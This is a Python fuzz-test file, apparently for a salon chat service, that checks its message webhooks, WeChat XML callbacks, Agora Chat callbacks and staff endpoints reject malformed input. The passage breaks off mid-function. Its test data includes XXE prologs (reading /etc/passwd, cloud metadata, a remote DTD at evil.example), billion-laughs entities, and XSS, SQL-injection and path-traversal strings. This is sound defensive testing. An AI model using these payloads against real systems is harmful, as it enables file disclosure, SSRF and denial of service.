"""Property tests of every chat input surface through the in-process app (the `harness` on moto).

The generic message webhook, WeChat's callback (POST messages, GET URL verification), Agora Chat's
post-delivery callback and the staff inbox endpoints. Bounded like the booking webhook's fuzz tests
(FUZZ_EXAMPLES examples per property, 40 unless set); the examples of one property share one stack,
and every rejection is checked to have changed nothing in the main table.
"""

from __future__ import annotations

import base64
import hashlib
import itertools
import json
import os
import time
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote, urlencode
from xml.sax.saxutils import escape

import hypothesis
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from chalicelib.channels.agora.chat import callback_signature
from chalicelib.channels.wechat.callback_xml import expected_signature
from chalicelib.conversations.intake import MAX_BODY_BYTES
from chalicelib.dal.conversations import STATUSES
from chalicelib.services.auth import issue_token
from chalicelib.services.signatures import sign
from chalicelib.understanding import INTENTS, SENTIMENTS
from tests.support.builders import LDN_STORE, SH_STORE
from tests.support.mutations import mutate, paths

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "40"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)
MESSAGES = "/v1/webhooks/messages"
AGORA = "/v1/channels/agora/{chain}/callback"
STORES = (SH_STORE, LDN_STORE)
_ids = itertools.count(1)


# --- shared helpers ------------------------------------------------------------------------------


def rows(harness) -> int:
    """Items in the main table."""
    ddb = harness.session.client("dynamodb")
    count, kwargs = 0, {}
    while True:
        page = ddb.scan(TableName=harness.container.settings.main_table, Select="COUNT", **kwargs)
        count += page["Count"]
        if "LastEvaluatedKey" not in page:
            return count
        kwargs = {"ExclusiveStartKey": page["LastEvaluatedKey"]}


def answer(response) -> tuple[int, Any]:
    try:
        body = json.loads(response.body) if response.body else None
    except ValueError:
        body = response.body
    return response.status_code, body


def check(status: int, allowed: set[int], body: Any, before: int, after: int) -> None:
    hypothesis.event(f"HTTP {status}")
    assert status in allowed, (status, body)
    if 400 <= status < 500:
        assert after == before, f"a {status} answer changed the stored state"


def dump(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=16,
)


def mostly(usual: st.SearchStrategy, unusual: st.SearchStrategy) -> st.SearchStrategy:
    """`usual` three times in four (one_of would flatten nested choices and weigh every branch alike)."""
    return st.integers(0, 3).flatmap(lambda i: unusual if i == 0 else usual)


# Text as members type it: any unicode (emoji, RTL, combining marks, controls), empty, very long.
SPECIAL_TEXTS = [
    "",
    " ",
    "\t\n",
    "1",
    "TD",
    "退订",
    "烫坏了，我要投诉！",
    "头发有点干怎么办",
    "😀💇‍♀️✨👍🏽",
    "مرحبا، هل يمكنني تغيير الموعد؟",
    "שלום",
    "\u202eevil\u202c",
    "a\u0301\u0301\u0301",
    "\x00\x01\x7f",
    "\ufeff\u200b\u200d",
    "<script>alert(1)</script>",
    "'; DROP TABLE x; --",
    "%s%n{0}",
    "\\u0000",
]
member_texts = st.one_of(
    st.sampled_from(SPECIAL_TEXTS),
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    st.tuples(st.sampled_from(["好", "😀", "a", "ש", " ", "\u0301"]), st.integers(1, 4000)).map(
        lambda p: p[0] * p[1]
    ),
)
ids = st.from_regex(r"[A-Za-z0-9_.:@\-]{1,40}", fullmatch=True)


# --- 1. the generic message webhook --------------------------------------------------------------


def message_event(
    text: str = "hi",
    *,
    store_id: str = SH_STORE,
    member_id: str = "m-1",
    channel: str = "sms",
    type: str = "text",
) -> dict:
    n = next(_ids)
    return {
        "event_id": f"fz-evt-{n}",
        "store_id": store_id,
        "member_id": member_id,
        "channel": channel,
        "message": {"id": f"fz-msg-{n}", "type": type, "text": text},
        "sent_at": "2026-11-22T10:05:00+08:00",
        "member_name": "Li",
    }


def post_generic(harness, raw: bytes, headers: dict[str, str] | None = None) -> tuple[int, Any]:
    ts = str(int(time.time()))
    all_headers = {
        "Content-Type": "application/json",
        "X-Chairside-Chain": harness.chain["chain_id"],
        "X-Chairside-Timestamp": ts,
        "X-Chairside-Signature": sign(harness.chain["webhook_secret"], ts, raw),
    }
    all_headers.update(headers or {})
    return answer(harness.client.http.post(MESSAGES, headers=all_headers, body=raw))


_MESSAGE_PATHS = paths(message_event())


@st.composite
def mutated_message_events(draw) -> Any:
    event = message_event(member_id=draw(st.sampled_from(["m-1", "m-2"])))
    event["message"]["id"] = draw(st.sampled_from(["fz-dup-1", event["message"]["id"]]))
    return mutate(draw, event, _MESSAGE_PATHS, json_values)


@FUZZ
@given(payload=st.one_of(json_values, mutated_message_events()))
@example(payload=[])
@example(payload={**message_event(), "store_id": "nope"})
@example(payload={**message_event(), "sent_at": "2026-11-22T10:05:00"})
@example(payload={**message_event(), "message": {"id": "x", "type": "text", "text": "x" * 4001}})
@example(
    payload={**message_event(), "message": {"id": "x", "type": "image", "media_url": "javascript:alert(1)"}}
)
@example(payload={**message_event(), "sent_at": "9999-12-31T23:59:59+14:00"})
@example(payload={**message_event(), "sent_at": "0001-01-01T00:00:00-12:00"})
@example(payload={**message_event(), "sent_at": 1e308})
def test_message_webhook_any_json_correctly_signed_never_gets_a_5xx(harness, payload):
    raw = dump(payload)
    before = rows(harness)

    status, body = post_generic(harness, raw)

    check(status, {200, 400, 413}, body, before, rows(harness))
    if status == 400:
        assert body["error"] == "invalid_request" and body["fields"], body


@FUZZ
@given(raw=st.one_of(st.binary(max_size=2048), st.text(max_size=500).map(lambda t: t.encode("utf-8"))))
@example(raw=b"\xff\xfe{}")
@example(raw=b"NaN")
@example(raw=b"[" * 100_000)
@example(raw=b'{"event_id": ' + b"{" * 5000 + b"}" * 5000 + b"}")
@example(raw=b" " * (MAX_BODY_BYTES + 1))
@example(raw=dump(message_event("\\ud800")).replace(b"\\\\ud800", b"\\ud800"))  # a lone surrogate, escaped
@example(raw=dump(message_event("\\udfff\\ud83d")).replace(b"\\\\", b"\\"))
def test_message_webhook_any_bytes_correctly_signed_never_get_a_5xx(harness, raw):
    before = rows(harness)

    status, body = post_generic(harness, raw)

    check(status, {200, 400, 413}, body, before, rows(harness))
    if len(raw) > MAX_BODY_BYTES:
        assert status == 413


@FUZZ
@given(
    text=member_texts,
    store=st.sampled_from(STORES),
    member=st.sampled_from(["m-1", "m-2"]) | ids,
    channel=st.sampled_from(["sms", "wechat", "agora", "web"]),
    kind=st.sampled_from(["text", "emoji", "voice"]),
)
@example(text="x" * 4000, store=SH_STORE, member="m-1", channel="sms", kind="text")
@example(text="😀" * 4000, store=LDN_STORE, member="m-1", channel="web", kind="text")
@example(text="", store=SH_STORE, member="m-1", channel="sms", kind="text")
def test_message_webhook_any_member_text_is_understood(harness, text, store, member, channel, kind):
    status, body = harness.post_message(
        message_event(text, store_id=store, member_id=member, channel=channel, type=kind)
    )
    hypothesis.event(f"intent {body.get('intent') if isinstance(body, dict) else None}")

    assert status == 200, (status, body)
    assert body["intent"] in INTENTS and body["sentiment"] in SENTIMENTS, body
    assert body["conversation_id"] == member
    assert isinstance(body["actions"], list)


# --- 1b. booking by chat: requests and picks ----------------------------------------------------

BOOK_REQUESTS = [
    "帮我约周六下午",
    "想预约做个指甲",
    "can I book a cut for Friday?",
    "周末有空位吗我想剪头发",
    "帮我约明天上午剪头发",
    "约染发 下周三晚上",
    "I'd like to book a colour tomorrow at 3pm",
    "想预约",
    "book haircut today evening",
    "帮我约11月31日下午剪发",  # no such day
]
PICKS = [
    "1",
    "2",
    "3",
    "4",
    "0",
    "第一个",
    "第二个",
    "第三个",
    "1号",
    "选2",
    "option 3",
    "the first one",
    "2️⃣",
    "１",
]
_book_step = st.tuples(
    st.one_of(  # mostly requests and picks, sometimes anything
        st.sampled_from(BOOK_REQUESTS), st.sampled_from(PICKS), st.sampled_from(PICKS), member_texts
    ),
    st.sampled_from(
        [0, 0, 1, 29, 31]
    ),  # minutes the clock moves first: some picks come after the offer expired
)
# A request first (most examples then have an offer to pick from), then anything.
book_steps = st.tuples(st.sampled_from(BOOK_REQUESTS), st.lists(_book_step, min_size=1, max_size=5)).map(
    lambda first_rest: [(first_rest[0], 0), *first_rest[1]]
)


@FUZZ
@given(steps=book_steps, member=st.sampled_from(["m-1", "m-2"]))
@example(steps=[("帮我约周六下午剪头发", 0), ("1", 1), ("1", 0)], member="m-1")
@example(steps=[("帮我约周六下午剪头发", 0), ("2", 31)], member="m-1")
def test_book_requests_and_picks_never_fail_and_book_only_offered_slots_once(harness, steps, member):
    from chalicelib.dal.models import BookingItem, ConversationItem, whole
    from tests.support.catalog import open_for_booking

    open_for_booking(SH_STORE)  # the same catalogue every example: the store directory's cache stays right
    offered: dict[str, set[tuple[str, str]]] = {}  # offer id -> (start, stylist) offered
    booked: list[tuple[str, str]] = []  # (start, stylist) booked by a pick
    for text, minutes in steps:
        harness.clock.set(harness.clock.now() + timedelta(minutes=minutes))
        status, body = harness.post_message(message_event(text, member_id=member))
        hypothesis.event(f"intent {body.get('intent') if isinstance(body, dict) else None}")

        assert status == 200, (status, body)
        assert body["intent"] in INTENTS and body["sentiment"] in SENTIMENTS, body
        conversation = ConversationItem.get(*ConversationItem.key(SH_STORE, member), consistent_read=True)
        for action in body["actions"]:
            hypothesis.event(f"{action['action']} -> {action.get('result')}")
            if action["action"] == "book_offered_slot":
                assert action["result"] in {"booked", "offered", "no_slots", "not_booked"}, action
                if action["result"] == "booked":
                    pair = (action["start"], action["stylist_id"])
                    # the offer picked from (made in this example or, on the shared stack, an earlier one) stays on
                    # the conversation, taken by this message
                    slots = {(x["start"], x["stylist_id"]) for x in conversation.offer["slots"]}
                    assert pair in slots and conversation.offer_picked_by is not None, (pair, slots)
                    assert pair in offered.get(conversation.offer_id, slots)
                    booked.append(pair)
            if action.get("result") == "offered":
                assert 1 <= len(action["slots"]) <= 3
                assert conversation.offer_id == action["offer_id"] and conversation.offer_picked_by is None
                offered[action["offer_id"]] = {
                    (s["start"], s["stylist_id"]) for s in conversation.offer["slots"]
                }
                assert all(datetime.fromisoformat(s) > harness.clock.now() for s in action["slots"])
    mine = whole(BookingItem, BookingItem.by_member.query(BookingItem.member_key("demo-chain", member)))
    held = [(b.start, b.stylist_id) for b in mine if b.status in ("booked", "confirmed")]
    for start, stylist in booked:
        assert held.count((datetime.fromisoformat(start), stylist)) == 1, (
            start,
            held,
        )  # each pick booked once


# --- 2. WeChat ---------------------------------------------------------------------------------


def store_token(harness, store_id: str) -> str:
    return next(s["wechat_token"] for s in harness.chain["stores"] if s["id"] == store_id)


def wechat_params(harness, store_id: str, *, signed: bool = True, **extra: str) -> dict[str, str]:
    ts, nonce = str(int(time.time())), f"n{next(_ids)}"
    token = store_token(harness, store_id) if store_id in STORES else "no-token"
    signature = expected_signature(token, ts, nonce) if signed else "0" * 40
    return {"signature": signature, "timestamp": ts, "nonce": nonce, **extra}


def wechat_post(harness, store_id: str, raw: bytes, params: dict[str, str]) -> tuple[int, Any]:
    path = f"/v1/channels/wechat/{store_id}?{urlencode(params, quote_via=quote)}"
    response = harness.client.http.post(path, headers={"Content-Type": "text/xml"}, body=raw)
    return response.status_code, response.body


def wechat_xml(fields: list[tuple[str, str, str]], root: str = "xml", declaration: str = "") -> str:
    def wrap(value: str, how: str) -> str:
        if how == "cdata":
            return f"<![CDATA[{value}]]>"
        return escape(value) if how == "escaped" else value

    inner = "".join(f"<{name}>{wrap(value, how)}</{name}>" for name, value, how in fields)
    return f"{declaration}<{root}>{inner}</{root}>"


def text_message(
    openid: str = "o-fuzz", content: str = "你好", msg_id: str | None = None
) -> list[tuple[str, str, str]]:
    return [
        ("ToUserName", "gh_demo", "cdata"),
        ("FromUserName", openid, "cdata"),
        ("CreateTime", str(int(time.time())), "raw"),
        ("MsgType", "text", "cdata"),
        ("Content", content, "cdata"),
        ("MsgId", msg_id or str(6054768590064713728 + next(_ids)), "raw"),
    ]


WECHAT_FIELDS = [
    "ToUserName",
    "FromUserName",
    "CreateTime",
    "MsgType",
    "Content",
    "MsgId",
    "MediaId",
    "PicUrl",
    "Event",
    "Recognition",
    "Format",
    "EventKey",
    "Ticket",
]
MSG_TYPES = [
    "text",
    "image",
    "voice",
    "event",
    "video",
    "shortvideo",
    "location",
    "link",
    "TEXT",
    "Event",
    "",
]
field_values = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        MSG_TYPES
        + [
            "subscribe",
            "unsubscribe",
            "CLICK",
            "0",
            "-1",
            "1700000000",
            "99999999999999",
            "²",
            "١٧٠٠٠٠٠٠٠٠",
            "gh_demo",
            "https://x/p.jpg",
            "]]>",
            "&amp;",
            "&lol;",
        ]
    ),
    st.integers(min_value=0, max_value=10**20).map(str),
    st.integers(min_value=100, max_value=20_000).map(lambda n: "o" * n),  # an oversized openid / id
    member_texts,
)


SHAPES = {  # MsgType -> the fields WeChat sends with it besides the common four
    "text": ["Content", "MsgId"],
    "image": ["PicUrl", "MediaId", "MsgId"],
    "voice": ["MediaId", "Format", "MsgId"],
    "event": ["Event"],
    "video": ["MediaId", "ThumbMediaId", "MsgId"],
    "location": ["Location_X", "Label", "MsgId"],
}
REALISTIC = {
    "ToUserName": "gh_demo",
    "FromUserName": "o-fuzz-member",
    "MsgId": "6054768590064713728",
    "Content": "你好",
    "PicUrl": "https://mmbiz.example/p.jpg",
    "MediaId": "media-1",
    "Format": "amr",
    "Event": "subscribe",
    "ThumbMediaId": "thumb-1",
    "Location_X": "31.2",
    "Label": "静安",
}


@st.composite
def xmlish(draw) -> bytes:
    """WeChat-shaped XML, realistic or with values, fields, structure or encoding changed or broken."""
    kind = draw(st.sampled_from(sorted(SHAPES)) | st.sampled_from(MSG_TYPES) | st.text(max_size=8))
    names = ["ToUserName", "FromUserName", "CreateTime", "MsgType", *SHAPES.get(kind, ["MsgId"])]
    fields = []
    for name in names:
        if name == "CreateTime":
            value = str(int(time.time()))
        elif name == "MsgType":
            value = kind
        elif name == "MsgId":
            value = str(6054768590064713728 + next(_ids))
        else:
            value = REALISTIC[name]
        if draw(st.integers(0, 3)) == 0:
            value = draw(field_values)  # an unusual value
        fields.append((name, value, draw(st.sampled_from(["cdata", "cdata", "escaped", "raw"]))))
    broken = draw(st.integers(0, 2)) == 0
    if broken:
        fields = [f for f in fields if draw(st.integers(0, 3))]  # drop some
        for _ in range(draw(st.integers(0, 3))):
            fields.append(
                (
                    draw(st.sampled_from(WECHAT_FIELDS)),
                    draw(field_values),
                    draw(st.sampled_from(["cdata", "escaped", "raw"])),
                )
            )
        fields = draw(st.permutations(fields))
    root = draw(st.sampled_from(["XML", "root", "xml:x"])) if broken and draw(st.booleans()) else "xml"
    declaration = draw(
        st.sampled_from(
            [
                "",
                '<?xml version="1.0"?>',
                '<?xml version="1.0" encoding="UTF-8"?>',
                '<?xml version="1.1"?>',
                '<?xml version="1.0" encoding="GBK"?>',
            ]
        )
    )
    text = wechat_xml(fields, root, declaration)
    if broken and draw(st.booleans()):
        text = text[: draw(st.integers(0, len(text)))]  # truncated
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-16", "gbk", "latin-1"]))
    return text.encode(encoding, "replace")


@FUZZ
@given(
    raw=mostly(xmlish(), st.binary(max_size=2048)),
    store=mostly(st.sampled_from(STORES), ids),
    signed=mostly(st.just(True), st.just(False)),
)
@example(raw=wechat_xml(text_message(openid="o" * 5000)).encode(), store=SH_STORE, signed=True)
@example(raw=wechat_xml(text_message(msg_id="9" * 5000)).encode(), store=SH_STORE, signed=True)
@example(raw=wechat_xml(text_message(content="😀" * 5000)).encode(), store=SH_STORE, signed=True)
@example(
    raw=wechat_xml(
        [
            ("ToUserName", "gh", "raw"),
            ("FromUserName", "o" * 3000, "raw"),
            ("CreateTime", "1700000000", "raw"),
            ("MsgType", "event", "raw"),
            ("Event", "unsubscribe", "raw"),
        ]
    ).encode(),
    store=LDN_STORE,
    signed=True,
)
@example(raw=wechat_xml(text_message()).encode("utf-16"), store=SH_STORE, signed=True)
@example(raw=b"", store=SH_STORE, signed=True)
@example(raw=b"<xml>" + b" " * MAX_BODY_BYTES + b"</xml>", store=SH_STORE, signed=True)
def test_wechat_any_body_never_gets_a_5xx(harness, raw, store, signed):
    params = wechat_params(harness, store, signed=signed)
    before = rows(harness)

    status, body = wechat_post(harness, store, raw, params)

    check(status, {200, 400, 401, 413}, body, before, rows(harness))
    if not signed or store not in STORES:
        assert status == 401, (status, body)
    elif len(raw) > MAX_BODY_BYTES:
        assert status == 413
    if status == 200:
        assert body == b"success"


def _billion_laughs(levels: int) -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)
    ]
    return f"<!DOCTYPE xml [{''.join(entities)}]>"


HOSTILE_PROLOGS = [
    _billion_laughs(3),
    _billion_laughs(10),
    '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
    '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE xml PUBLIC "-//EVIL//DTD//EN" "file:///dev/random">',
    "<!DOCTYPE xml>",
    '<!doctype xml [<!entity a "b">]>',
    '<!DOCTYPE xml [<!ENTITY big "' + "A" * 20_000 + '">]>',  # quadratic blowup
    '<!DOCTYPE xml [<!ELEMENT xml ANY><!ATTLIST xml a CDATA "x">]>',
]
ENTITY_REFS = ["&lol9;", "&lol2;", "&xxe;", "&big;" * 50, "&a;", ""]


@st.composite
def hostile_xml(draw) -> bytes:
    kind = draw(st.sampled_from(["declaration", "declaration", "nesting"]))
    if kind == "nesting":
        # Deep nesting: a message buried under thousands of levels, so its fields are not the root's.
        depth = draw(st.integers(1, 5000))
        inner = wechat_xml(text_message(), root="xml")
        text = "<xml>" * depth + inner + "</xml>" * depth
    else:
        prolog = draw(st.sampled_from(HOSTILE_PROLOGS))
        content = draw(st.sampled_from(ENTITY_REFS))
        fields = [
            (n, content if n == "Content" else v, "raw" if n == "Content" else h)
            for n, v, h in text_message()
        ]
        declaration = draw(
            st.sampled_from(["", '<?xml version="1.0"?>\n', '<?xml version="1.0" encoding="UTF-16"?>'])
        )
        text = declaration + prolog + wechat_xml(fields)
    encoding = draw(st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-16-be"]))
    if encoding == "utf-16-le":
        return b"\xff\xfe" + text.encode(encoding)
    if encoding == "utf-16-be":
        return b"\xfe\xff" + text.encode(encoding)
    return text.encode(encoding)


@FUZZ
@given(raw=hostile_xml(), store=st.sampled_from(STORES))
def test_hostile_wechat_xml_gets_400_and_stores_nothing(harness, raw, store):
    hypothesis.assume(len(raw) <= MAX_BODY_BYTES)
    before = rows(harness)

    status, body = wechat_post(harness, store, raw, wechat_params(harness, store))

    assert status == 400, (status, body, raw[:200])
    assert rows(harness) == before


NOW = "<now>"  # a timestamp of the moment the example runs


def fresh_seconds(timestamp: str | None) -> bool:
    """Unix seconds within the 5 minutes the service accepts."""
    return (
        bool(timestamp)
        and timestamp.isascii()
        and timestamp.isdigit()
        and len(timestamp) <= 15
        and abs(time.time() - int(timestamp)) <= 300
    )


wechat_param_values = st.one_of(
    st.none(),
    st.text(max_size=40),
    st.sampled_from(["", " ", "0" * 40, "²"]),
    st.integers(257, 5000).map(lambda n: "e" * n),
)


@FUZZ
@given(
    store=st.sampled_from(STORES) | ids,
    signature=wechat_param_values,
    timestamp=mostly(st.just(NOW), wechat_param_values),
    nonce=wechat_param_values,
    echostr=wechat_param_values,
    valid=st.booleans(),
    extra=st.dictionaries(st.text(min_size=1, max_size=10), st.text(max_size=20), max_size=3),
)
@example(store=SH_STORE, signature=None, timestamp=NOW, nonce="n", echostr="e" * 256, valid=True, extra={})
@example(store=SH_STORE, signature=None, timestamp=NOW, nonce="n", echostr="e" * 257, valid=True, extra={})
@example(store=SH_STORE, signature=None, timestamp=NOW, nonce="", echostr="😀 مرحبا", valid=True, extra={})
@example(store=SH_STORE, signature=None, timestamp="1", nonce="n", echostr="e", valid=True, extra={})
@example(store=SH_STORE, signature=None, timestamp="", nonce="", echostr="e", valid=True, extra={})
@example(store=LDN_STORE, signature=None, timestamp=None, nonce=None, echostr=None, valid=True, extra={})
def test_wechat_url_verification_echoes_only_for_a_valid_signature(
    harness, store, signature, timestamp, nonce, echostr, valid, extra
):
    if timestamp == NOW:
        timestamp = str(int(time.time()))
    params = {k: v for k, v in extra.items() if k not in ("signature", "timestamp", "nonce", "echostr")}
    for name, value in (("timestamp", timestamp), ("nonce", nonce), ("echostr", echostr)):
        if value is not None:
            params[name] = value
    can_sign = valid and store in STORES
    if can_sign:
        params["signature"] = expected_signature(store_token(harness, store), timestamp or "", nonce or "")
    elif signature is not None:
        params["signature"] = signature
    query = urlencode(params, quote_via=quote)
    before = rows(harness)

    response = harness.client.http.get(f"/v1/channels/wechat/{store}" + (f"?{query}" if query else ""))
    status = response.status_code
    hypothesis.event(f"HTTP {status}")

    fresh = fresh_seconds(timestamp)  # a signature over a timestamp more than 5 minutes off is refused
    if can_sign and fresh and echostr and len(echostr) <= 256:
        assert (status, response.body) == (200, echostr.encode()), (status, response.body)
    else:
        assert status == (400 if can_sign and fresh else 401), (status, response.body)
    assert rows(harness) == before


# --- 3. Agora Chat callbacks -----------------------------------------------------------------------


def agora_post(harness, body: bytes, chain: str = "demo-chain") -> tuple[int, Any]:
    return answer(
        harness.client.http.post(
            AGORA.format(chain=chain), body=body, headers={"Content-Type": "application/json"}
        )
    )


def agora_sign(harness, body: dict) -> dict:
    """`body` with a correct `security` when its callId and timestamp allow one."""
    secret = harness.chain["agora"]["callback_secret"]
    call_id, ts = body.get("callId"), body.get("timestamp")
    if isinstance(call_id, str) and call_id and signable(ts):
        body["security"] = callback_signature(call_id, secret, ts)
    return body


def signable(ts: Any) -> bool:
    """A timestamp Agora could have signed: an integer, or ASCII digits."""
    return (isinstance(ts, int) and not isinstance(ts, bool)) or (
        isinstance(ts, str) and ts.isascii() and ts.isdigit()
    )


def agora_message(text: str = "thanks 😍", *, to: str = f"store-{SH_STORE}", sender: str = "m-agora") -> dict:
    n = next(_ids)
    return {
        "callId": f"c-{n}",
        "eventType": "chat",
        "chat_type": "chat",
        "security": "",
        "timestamp": int(time.time() * 1000),
        "from": sender,
        "to": to,
        "msg_id": str(889900 + n),
        "payload": {"bodies": [{"type": "txt", "msg": text}], "ext": {}},
    }


_AGORA_PATHS = paths(agora_message())


_stored_call_ids: set[str] = (
    set()
)  # callIds the service stored a message for: another body under one is refused


def fresh_ms(timestamp: Any) -> bool:
    """A signable timestamp within the 5 minutes the service accepts (Agora's are milliseconds)."""
    return (
        signable(timestamp)
        and len(str(timestamp)) <= 15
        and abs(time.time() * 1000 - int(timestamp)) <= 300_000
    )


def remember_stored(payload: Any, status: int, body: Any) -> None:
    if status == 200 and isinstance(body, dict) and body.get("result") == "stored":
        _stored_call_ids.add(payload["callId"])


def signature_ok(harness, body: Any) -> bool:
    from chalicelib.channels.agora.chat import verify_callback

    return isinstance(body, dict) and verify_callback(body, harness.chain["agora"]["callback_secret"])


@FUZZ
@given(
    data=st.data(),
    payload=json_values,
    chain=st.sampled_from(["demo-chain"] * 4 + ["other-chain", "", "a" * 200]),
)
def test_agora_callback_any_json_never_gets_a_5xx(harness, data, payload, chain):
    if data.draw(st.booleans(), label="mutate a valid callback"):
        payload = mutate(data.draw, agora_message(), _AGORA_PATHS, json_values)
        if data.draw(st.booleans(), label="re-sign"):
            payload = agora_sign(harness, payload)
    raw = dump(payload)
    before = rows(harness)

    status, body = agora_post(harness, raw, chain or "%20")

    check(status, {200, 400, 401}, body, before, rows(harness))
    if chain != "demo-chain":
        assert status in (400, 401)  # no such chain: refused whatever the body
    elif not isinstance(payload, dict):
        assert status == 400
    elif not signature_ok(harness, payload) or not fresh_ms(payload.get("timestamp")):
        assert status == 401, (status, body)
    elif payload.get("chat_type") not in ("chat", "groupchat"):
        assert (status, body["result"]) == (200, "ignored"), (status, body)
    else:
        assert status in ((200, 400, 401) if payload["callId"] in _stored_call_ids else (200, 400)), (
            status,
            body,
        )
        if status == 400:
            assert body["fields"], body
        remember_stored(payload, status, body)


agora_ids = st.one_of(ids, st.text(min_size=1, max_size=40), st.integers(129, 5000).map(lambda n: "u" * n))
agora_bodies = st.one_of(
    st.fixed_dictionaries({"type": st.just("txt"), "msg": member_texts | json_values}),
    st.fixed_dictionaries(
        {
            "type": st.sampled_from(["img", "audio", "video", "file"]),
            "url": st.sampled_from(["https://a/p.jpg", "", "javascript:x"]) | json_values,
        }
    ),
    st.fixed_dictionaries(
        {
            "type": st.just("custom"),
            "customEvent": st.sampled_from(["emoji", "STICKER", "gift"]) | json_values,
            "customExts": json_values,
            "v2:customExts": json_values,
        }
    ),
    st.fixed_dictionaries({"type": st.sampled_from(["loc", "cmd", ""]) | st.text(max_size=10)}),
    json_values,
)
agora_timestamps = st.one_of(
    st.integers(min_value=1_500_000_000_000, max_value=2_000_000_000_000),
    st.integers(),
    st.integers(min_value=0, max_value=10**40).map(str),
    st.sampled_from(["²", "١٧٠٠٠٠٠٠٠٠٠٠٠", "0", "", "-1"]),
)


@st.composite
def signed_messages(draw, harness) -> dict:
    stores = st.sampled_from([f"store-{SH_STORE}", f"store-{LDN_STORE}"])
    body = {
        "callId": draw(mostly(st.just(f"c-{next(_ids)}"), st.text(min_size=1, max_size=30))),
        "eventType": draw(mostly(st.sampled_from(["chat", "chat_offline"]), st.none() | json_values)),
        "chat_type": draw(st.sampled_from(["chat", "chat", "groupchat"])),
        "timestamp": draw(mostly(st.builds(lambda: int(time.time() * 1000)), agora_timestamps)),
        "from": draw(mostly(ids, agora_ids)),
        "to": draw(
            mostly(
                stores,
                st.sampled_from(["store-", "store-nope", SH_STORE, "store-" + "x" * 200])
                | st.text(max_size=20),
            )
        ),
        "msg_id": draw(mostly(st.integers(1, 10**18).map(str), agora_ids | st.integers())),
        "payload": {
            "bodies": draw(
                mostly(st.lists(agora_bodies, min_size=1, max_size=1), st.lists(agora_bodies, max_size=2))
            ),
            "ext": draw(json_values),
        },
    }
    return agora_sign(harness, body)


@FUZZ
@given(data=st.data())
@example(data=None)
def test_agora_signed_message_callbacks_never_get_a_5xx(harness, data):
    if data is None:  # the edges, once each
        bodies = [
            agora_message(),
            agora_message(sender="u" * 5000),
            agora_message(text="😀" * 20_000),
            {**agora_message(), "msg_id": "9" * 5000},
            {**agora_message(), "timestamp": "²"},
            {**agora_message(), "timestamp": 10**30},
            {**agora_message(), "timestamp": -(10**20)},
            {**agora_message(), "timestamp": "9" * 40},
            {**agora_message(), "timestamp": "9" * 5000},
            {**agora_message(), "timestamp": 253_402_300_799_999},
            {**agora_message(), "timestamp": 0},
            {**agora_message(), "timestamp": "١٧٠٠٠٠٠٠٠٠٠٠٠"},
            {**agora_message(), "chat_type": ["chat"]},
            {**agora_message(), "chat_type": {"a": 1}},
            agora_message(sender="o\u202e😀 é"),
        ]
    else:
        bodies = [data.draw(signed_messages(harness))]
    for payload in bodies:
        payload = agora_sign(harness, payload)
        raw = dump(payload)
        before = rows(harness)

        status, body = agora_post(harness, raw)

        if len(raw) > MAX_BODY_BYTES:
            assert status == 413, (status, body)
            continue
        check(status, {200, 400, 401}, body, before, rows(harness))
        if fresh_ms(payload["timestamp"]) and payload["callId"] not in _stored_call_ids:
            assert status != 401, (status, body)
        elif not fresh_ms(payload["timestamp"]):
            assert status == 401, (status, body)  # unsigned, or more than 5 minutes off
        remember_stored(payload, status, body)
        if status == 200:
            hypothesis.event(f"result {body['result']}")


# --- 4. staff endpoints ----------------------------------------------------------------------------

JWT_SECRET = "test-jwt-secret-of-at-least-32-bytes!"
path_ids = st.one_of(
    st.sampled_from(
        ["m-1", "m-2", "wx-o-fuzz", SH_STORE, LDN_STORE, "..", ".", "%2F", "%00", "m-1%0A", " m-1"]
    ),
    ids,
    # Not "/?#" (they would change the route) nor tab or newlines (a URL cannot carry them raw).
    st.text(
        alphabet=st.characters(exclude_characters="/?#%\t\r\n", exclude_categories=("Cs",)),
        min_size=1,
        max_size=40,
    ),
    st.integers(129, 3000).map(lambda n: "x" * n),
)
query_values = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["", "0", "1", "20", "100", "101", "-1", "²", "١٠", "1e3", " 5", "99999999999999999999"]),
)


def cursor_values(harness_cursors: list[str]):
    junk_keys = st.lists(st.text(max_size=40) | st.just("MSG#") | st.integers(), max_size=4)
    return st.one_of(
        query_values,
        st.sampled_from(harness_cursors) if harness_cursors else st.nothing(),
        junk_keys.map(lambda k: base64.urlsafe_b64encode(json.dumps(k).encode()).decode().rstrip("=")),
        json_values.map(lambda v: base64.urlsafe_b64encode(json.dumps(v).encode()).decode()),
        st.integers(700, 3000).map(
            lambda n: base64.urlsafe_b64encode(json.dumps(["MSG#" + "z" * n]).encode()).decode()
        ),
    )


def staff_call(
    harness,
    method: str,
    path: str,
    *,
    params: dict | None = None,
    raw: bytes | None = None,
    authorization: str | None = "admin",
) -> tuple[int, Any]:
    headers = {"Content-Type": "application/json"}
    if authorization == "admin":
        headers["Authorization"] = f"Bearer {harness.chain['staff_token']}"
    elif authorization is not None:
        headers["Authorization"] = authorization
    if params:
        path += "?" + urlencode(params, quote_via=quote)
    if method == "GET":
